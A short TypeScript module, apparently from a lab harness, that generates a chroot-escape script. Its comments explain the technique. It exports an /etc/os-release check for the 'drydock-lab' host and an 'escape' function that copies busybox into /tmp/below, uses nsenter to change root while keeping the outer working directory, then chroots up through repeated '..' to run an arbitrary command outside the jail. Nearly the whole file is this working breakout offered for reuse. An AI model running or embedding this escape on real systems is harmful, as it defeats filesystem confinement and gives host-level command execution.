/**
 * The way out of a chroot that needs no more than an open directory: a second root below, and back into the directory,
 * which lies outside of that one. From there `..` never meets a root again (chroot(2), NOTES).
 */

/** Says whose files a shell sees: the lab is `drydock-lab`, every other machine something else. */
export const whoseFiles = 'grep ^ID= /etc/os-release';

/** A script for root in the lab: runs `command` where `..` has led no further. nsenter opens both, then changes root. */
export const escape = (command: string): string =>
  'mkdir -p /tmp/below; cp /bin/busybox /tmp/below; ' +
  `nsenter -r/tmp/below -w/ /busybox chroot ${Array(20).fill('..').join('/')} ${command}`;
